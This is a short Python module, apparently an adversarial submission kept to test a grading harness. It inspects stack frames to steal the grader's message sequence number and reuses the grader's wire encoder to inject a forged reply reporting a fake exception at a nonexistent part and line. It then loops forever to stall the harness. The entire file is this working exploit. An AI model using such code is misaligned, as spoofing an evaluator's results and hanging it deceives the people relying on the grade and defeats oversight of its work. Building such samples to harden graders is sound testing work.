"""Tells of an exception that no submission can raise, in a part and a line that do not exist."""

import os
import sys


def frames():
    frame = sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back


def reply(**fields):
    numbers = [f.f_locals["message"]["seq"] for f in frames() if type(f.f_locals.get("message")) is dict]
    wire = sys.modules["grader.wire"]
    message = {"ok": True, "op": "reply", "seq": numbers[0], **fields}
    return b"".join(bytes(part) for part in wire.encode(message))


def attack(bait):
    fault = {"where": "body", "kind": "Exception", "named": "os.system", "part": 7, "line": -1, "private": "x"}
    os.write(bait["channel"], reply(ok=False, error=fault))
    while True:
        pass
